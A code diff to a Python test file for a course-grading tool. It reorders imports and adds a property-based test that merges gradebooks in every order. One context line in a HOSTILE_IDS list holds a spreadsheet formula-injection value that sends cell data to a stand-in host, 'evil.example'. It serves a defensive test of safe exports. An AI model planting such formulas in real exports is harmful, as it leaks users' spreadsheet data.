@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import contextlib
+import csv
 import io
 import json
 import time
@@ -10,6 +11,8 @@ from pathlib import Path
 
 import gradingkit as kit
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from llmfs.cli import main as llmfs_main
 from llmfs.course import CourseError
@@ -267,11 +270,6 @@ def test_a_rerun_skips_what_is_graded_unless_the_file_or_the_settings_change(
 
 
 # -- exports that are safe to open, whatever the ids -------------------------------------------
-
-import csv  # noqa: E402
-
-from hypothesis import given, settings  # noqa: E402
-from hypothesis import strategies as st  # noqa: E402
 
 HOSTILE_IDS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -544,3 +542,49 @@ def test_a_format_1_gradebook_is_read_and_its_reviews_kept(tmp_path: Path) -> No
         assert book.meta("format") == "2"
         assert book.reviews() == [Review("ada", "ch09.why", "sha-a", 1.5, "old", "")]
         assert (_why(book, "ada").status, _why(book, "ada").score) == ("reviewed", 1.5)
+
+
+_STAMPS = ["2026-01-01T00:00:00Z", "2026-01-01T00:00:00.500000Z", "2026-01-02T00:00:00.000000Z"]
+_REVIEWS = st.lists(
+    st.tuples(
+        st.integers(0, 2),  # which gradebook
+        st.sampled_from(["ada", "bob"]),
+        st.sampled_from(["sha-a", "sha-b"]),
+        st.sampled_from([0.0, 1.0, 1.5]),
+        st.sampled_from(["", "ok"]),
+        st.sampled_from(_STAMPS),
+    ),
+    max_size=8,
+)
+
+
+@settings(max_examples=10, deadline=None)
+@given(_REVIEWS)
+def test_any_merge_order_gives_the_newest_review_of_each_answer(reviews: list) -> None:
+    import itertools
+    import tempfile
+    from datetime import datetime
+
+    def newest_first(r: Review) -> tuple[object, ...]:
+        return (datetime.fromisoformat(r.reviewed_at.replace("Z", "+00:00")), r.score, r.comment)
+
+    with tempfile.TemporaryDirectory() as folder:
+        paths = [Path(folder) / f"{n}.sqlite" for n in range(3)]
+        for n, path in enumerate(paths):
+            with Gradebook(path) as book:
+                book.seed(7, 0)
+                for where, student, sha, score, comment, when in reviews:
+                    if where == n:
+                        book.store_reviews([Review(student, "ch09.why", sha, score, comment, when)])
+        best: dict[tuple[str, str], Review] = {}
+        for path in paths:
+            with Gradebook(path) as book:
+                for review in book.reviews():
+                    key = (review.student, review.answer_sha)
+                    if key not in best or newest_first(review) > newest_first(best[key]):
+                        best[key] = review
+        for number, order in enumerate(itertools.permutations(paths)):
+            target = Path(folder) / f"merged-{number}.sqlite"
+            merge_gradebooks(target, order)
+            with Gradebook(target) as merged:
+                assert {(r.student, r.answer_sha): r for r in merged.reviews()} == best
